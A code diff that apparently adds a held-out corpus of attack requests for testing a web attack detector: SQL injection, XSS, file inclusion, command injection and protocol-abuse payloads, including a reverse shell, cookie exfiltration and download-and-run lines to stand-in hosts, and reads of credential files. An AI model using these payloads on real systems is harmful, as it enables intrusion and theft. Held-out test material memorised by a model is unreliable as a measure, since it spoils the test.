+    ("sqli", "query", "-1' UNION SELECT 1,@@version,3#"),
+    ("sqli", "query", "1' ORDER BY 10-- -"),
+    ("sqli", "query", "1' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- -"),
+    ("sqli", "query", "1' AND updatexml(1,concat(0x7e,version()),1)-- -"),
+    ("sqli", "query", "1;WAITFOR DELAY '0:0:5'--"),
+    ("sqli", "query", "1' AND (SELECT 1 FROM pg_sleep(5))::text='1"),
+    ("sqli", "query", "' OR 'x'LIKE'x"),
+    ("sqli", "plusquery", "1 UNION/*!50000SELECT*/ 1,2,3"),
+    ("sqli", "query", "1'/**/UnIoN/**/SeLeCt/**/null,null--"),
+    ("sqli", "raw", "1%bf%27%20OR%201%3D1--%20"),
+    ("sqli", "query", "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--"),
+    ("sqli", "query", "1' AND IF(1=1,SLEEP(4),0)-- "),
+    ("sqli", "cookie", "' OR '1'='1'; --"),
+    ("sqli", "header:X-Forwarded-For", "1.2.3.4' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -"),
+    ("sqli", "rawjson", '{"username": {"$gt": ""}, "password": {"$gt": ""}}'),
+    ("sqli", "query", "') UNION SELECT NULL, load_file('/etc/passwd')-- -"),
+    ("sqli", "query", "1' INTO OUTFILE '/var/www/html/x.php'-- -"),
+    ("sqli", "query", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
+    ("sqli", "query", 'admin" OR ""="'),
+    ("sqli", "double", "1 UNION SELECT column_name FROM information_schema.columns"),
+    ("sqli", "query", "';SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
+    ("xss", "graphql", "<img src=x onerror=alert(1)>"),
+    ("xss", "webhook", "<script>fetch('//x.example/'+document.cookie)</script>"),
+    ("xss", "put", "<svg/onload=alert(1)>"),
+    ("xss", "redirect", "javascript:alert(document.domain)"),
+    ("xss", "redirect", "java\tscript:alert(1)"),
+    ("xss", "bracket", '"><img src=x onerror=prompt(1)>'),
+    ("xss", "query", "<details open ontoggle=alert(1)>"),
+    ("xss", "query", "<video><source onerror=alert(1)>"),
+    ("xss", "query", "<audio src=x onerror=alert(1)>"),
+    ("xss", "query", "<body onpageshow=alert(1)>"),
+    ("xss", "query", "<input autofocus onfocus=alert(1)>"),
+    ("xss", "query", "<select autofocus onfocus=alert(1)>"),
+    ("xss", "query", '<object data="javascript:alert(1)">'),
+    ("xss", "query", '<base href="javascript:alert(1)//">'),
+    ("xss", "query", "<img src=x onerror=\\u0061lert(1)>"),
+    ("xss", "query", "<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>"),
+    (
+        "xss",
+        "query",
+        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X"
+        "</text></a>",
+    ),
+    ("xss", "query", '"onmouseover="alert(1)'),
+    ("xss", "query", "';alert(String.fromCharCode(88,83,83))//"),
+    ("xss", "query", "</script><script>alert(1)</script>"),
+    ("xss", "query", "{{constructor.constructor('alert(1)')()}}"),
+    ("xss", "double", "<iMg SrC=x OnErRoR=alert(1)>"),
+    ("xss", "raw", "%3Cscript%3Ealert%28%27x%27%29%3C%2Fscript%3E"),
+    ("xss", "query", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
+    ("xss", "query", '<a href="&#106;avascript:alert(1)">x</a>'),
+    ("xss", "form", "<img src=1 onerror=import('//x.example/x.js')>"),
+    ("xss", "cookie", '"><script>alert(1)</script>'),
+    ("xss", "header:X-Forwarded-Host", 'x.example"><img src=x onerror=alert(1)>'),
+    ("xss", "multipart", "<svg><script>alert(1)</script></svg>"),
+    ("xss", "plusquery", "<script>alert('hello world')</script>"),
+    ("lfi", "query", "../../../../../../etc/hosts"),
+    ("lfi", "query", "....//....//....//....//etc/passwd"),
+    ("lfi", "query", "..%5c..%5c..%5cboot.ini"),
+    ("lfi", "raw", "..%255c..%255c..%255cwindows%255cwin.ini"),
+    ("lfi", "query", "/var/log/apache2/access.log"),
+    ("lfi", "query", "/proc/self/status"),
+    ("lfi", "query", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
+    ("lfi", "query", "file:///etc/passwd"),
+    ("lfi", "query", "php://input"),
+    ("lfi", "query", "expect://id"),
+    ("lfi", "query", "zip://uploads/a.zip#shell.php"),
+    ("lfi", "query", "/etc/passwd\x00"),
+    ("lfi", "query", "..\\/..\\/..\\/etc/passwd"),
+    ("lfi", "graphql", "../../../../etc/passwd"),
+    ("lfi", "webhook", "../../../../root/.ssh/id_rsa"),
+    ("lfi", "put", "../../../../../../var/www/.env"),
+    ("lfi", "bracket", "/etc/passwd"),
+    ("lfi", "path", "/static/..%2f..%2f..%2fetc/passwd"),
+    ("lfi", "path", "/assets/....//....//....//etc/passwd"),
+    ("lfi", "path", "/config/database.yml"),
+    ("lfi", "path", "/wp-config.php.bak"),
+    ("lfi", "path", "/WEB-INF/web.xml"),
+    ("lfi", "path", "/images/%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
+    ("lfi", "query", "../../../../../../../../usr/local/etc/php/php.ini"),
+    ("lfi", "header:X-Original-URL", "/../../../../etc/passwd"),
+    ("lfi", "redirect", "file:///etc/passwd"),
+    ("lfi", "json", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+    ("rce", "graphql", "; cat /etc/passwd"),
+    ("rce", "webhook", "$(id)"),
+    ("rce", "put", "`curl http://x.oast.example/$(hostname)`"),
+    ("rce", "bracket", "| whoami"),
+    ("rce", "query", "; /bin/bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
+    ("rce", "query", "|| ping -n 3 127.0.0.1"),
+    ("rce", "raw", "x%0Auname%20-a"),
+    ("rce", "query", ";{cat,/etc/passwd}"),
+    ("rce", "query", "; /???/c?t /???/p??swd"),
+    ("rce", "query", ";$'\\x63\\x61\\x74' /etc/passwd"),
+    ("rce", "query", "| base64 -d <<< aWQ= | sh"),
+    ("rce", "query", "; python3 -c 'import os;os.system(\"id\")'"),
+    ("rce", "query", "; perl -e 'exec \"/bin/sh\"'"),
+    ("rce", "query", "& net user hacker P@ss1 /add"),
+    (
+        "rce",
+        "query",
+        "| powershell IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')",
+    ),
+    ("rce", "query", "${jndi:rmi://x.oast.example:1099/a}"),
+    ("rce", "ua", "${jndi:dns://x.oast.example/ua}"),
+    ("rce", "query", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}"),
+    ("rce", "query", "{{''.__class__.__mro__[1].__subclasses__()}}"),
+    ("rce", "query", "{% import os %}{{ os.popen('id').read() }}"),
+    ("rce", "query", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
+    (
+        "rce",
+        "query",
+        "%{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}",
+    ),
+    (
+        "rce",
+        "header:Content-Type",
+        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
+    ),
+    ("rce", "query", "<?=`$_GET[0]`?>"),
+    ("rce", "form", "system($_GET['c']);"),
+    (
+        "rce",
+        "rawjson",
+        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a",'
+        '"autoCommit":true}',
+    ),
+    ("rce", "query", 'O:8:"stdClass":1:{s:4:"cmd";s:2:"id";}'),
+    ("rce", "query", "require('child_process').exec('id')"),
+    ("rce", "multipart", "#!/bin/sh\ncurl http://x.example/x | sh"),
+    ("rce", "query", "a;sleep${IFS}5"),
+    ("scanner", "ua", "Nikto/2.5.0"),
+    ("scanner", "ua", "Wfuzz/3.1.0"),
+    ("scanner", "ua", "Arachni/v1.6.1"),
+    ("scanner", "ua", "commix/v3.9-stable (https://commixproject.com)"),
+    ("scanner", "ua", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
+    ("scanner", "ua", "ZmEu"),
+    ("scanner", "ua", "httpx - Open-source project (github.com/projectdiscovery/httpx)"),
+    ("scanner", "ua", "Mozilla/5.0 (compatible; Nessus SOAP)"),
+    ("scanner", "ua", "w3af.org"),
+    ("scanner", "header:X-Scanner", "Netsparker"),
+    ("scanner", "path", "/phpmyadmin/index.php"),
+    ("scanner", "path", "/cgi-bin/luci/;stok=/locale"),
+    ("scanner", "path", "/solr/admin/cores?action=STATUS&wt=json"),
+    ("scanner", "path", "/console/login/LoginForm.jsp"),
+    ("scanner", "path", "/.git/HEAD"),
+    ("scanner", "path", "/.DS_Store"),
+    ("scanner", "path", "/_ignition/execute-solution"),
+    ("scanner", "path", "/.vscode/sftp.json"),
+    ("scanner", "path", "/telescope/requests"),
+    (
+        "scanner",
+        "path",
+        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
+    ),
+    (
+        "scanner",
+        "path",
+        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
+        "&vars[0]=md5&vars[1][]=HelloThinkPHP",
+    ),
+    ("scanner", "path", "/wls-wsat/CoordinatorPortType"),
+    ("scanner", "path", "/druid/index.html"),
+    ("scanner", "path", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*"),
+    ("scanner", "path", "/GponForm/diag_Form?images/"),
+    ("protocol", "method", "TRACK"),
+    ("protocol", "method", "PROPFIND"),
+    ("protocol", "header:Content-Length", "-1"),
+    ("protocol", "header:Content-Length", "0x10"),
+    ("protocol", "header:Host", "shop.example.com@evil.example"),
+    ("protocol", "raw", "%0d%0aLocation:%20http://evil.example"),
+    ("protocol", "redirect", "/%0d%0aSet-Cookie:x=1"),
+    ("protocol", "header:Range", "bytes=-1,-2,-3,-4,-5,-6,-7,-8,-9,-10,-11,-12"),
+    ("protocol", "header:Content-Type", "text/plain; charset=ibm037"),
+    ("protocol", "header:Content-Type", "multipart/form-data"),
+    (
+        "protocol",
+        "headers",
+        "Upgrade: h2c\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\nConnection: Upgrade, HTTP2-Settings",
+    ),
+    ("protocol", "raw", "%uff1cscript%uff1e"),
+    ("protocol", "raw", "a=%G1%Z2"),
+    ("protocol", "header:Connection", "keep-alive, Cookie"),
+    ("protocol", "header:Transfer-Encoding", "chunked, identity"),
+    ("protocol", "header:X-Forwarded-For", "127.0.0.1\r\nX-Injected: 1"),
+    (
+        "protocol",
+        "xml",
+        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
+        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>',
+    ),
+    ("protocol", "rawjson", '{"a":1,"__proto__":{"isAdmin":true}}'),
+    ("protocol", "header:Content-Encoding", "gzip, gzip, gzip, gzip, gzip, gzip"),
+    ("protocol", "method", "MKCOL"),
+)
+
+
+def _deliver6(cat: str, how: str, p: str, note: str) -> CorpusRequest:
+    """Held-out 6's own deliveries, then `_deliver5`'s: a GraphQL variable, a field deep in a
+    webhook's JSON, a PUT of JSON, a bracketed query argument (`filter[name]`), an OAuth
+    `redirect_uri`, and a query with `+` for spaces (as forms encode them)."""
+    h = _headers()
+    if how == "graphql":
+        doc: dict[str, object] = {
+            "operationName": "Search",
+            "query": "query Search($q: String!) { search(query: $q) { id } }",
+            "variables": {"q": p},
+        }
+        return _json(cat, "/graphql", doc, note)
+    if how == "webhook":
+        hook = {"action": "opened", "issue": {"number": 7, "title": "bug", "body": p}, "v": 1}
+        return _json(cat, "/hooks/github", hook, note, X_GitHub_Event="issues")
+    if how == "put":
+        r = _json(cat, "/api/v1/users/42", {"display_name": p, "tz": "UTC"}, note)
+        return CorpusRequest(cat, "PUT", r.path, "", r.headers, r.body, note)
+    if how == "bracket":
+        q = f"filter%5Bname%5D={quote(p, safe='')}&page%5Bsize%5D=24"
+        return CorpusRequest(cat, "GET", "/api/products", q, h, None, note)
+    if how == "redirect":
+        q = f"client_id=app&response_type=code&redirect_uri={quote(p, safe='')}&state=a1"
+        return CorpusRequest(cat, "GET", "/oauth/authorize", q, h, None, note)
+    if how == "plusquery":
+        return CorpusRequest(cat, "GET", "/search", urlencode({"q": p}), h, None, note)
+    return _deliver5(cat, how, p, note)
+
+
+def heldout6_attacks() -> list[CorpusRequest]:
+    """The sixth held-out attack set, each payload delivered the way its entry names."""
+    return [_deliver6(c, how, p, f"held-out-6 {how}: {p[:120]}") for c, how, p in HELDOUT6_ATTACKS]
+
+
+def heldout6_benign() -> list[CorpusRequest]:
+    """The sixth held-out benign set: forum, docs and shop text, text in many languages, OAuth
+    and analytics queries, CMS admin paths, webhook and GraphQL bodies, and whole requests."""
+    out = _benign_set(
+        "held-out-6",
+        HELDOUT6_BENIGN_TEXT,
+        HELDOUT6_BENIGN_QUERIES,
+        HELDOUT6_BENIGN_PATHS,
+        HELDOUT6_BENIGN_JSON,
+        HELDOUT6_BENIGN_COOKIES,
+        HELDOUT6_BENIGN_REFERERS,
+        HELDOUT6_BENIGN_UAS,
+    )
+    return out + _requests("held-out-6", HELDOUT6_BENIGN_REQUESTS)
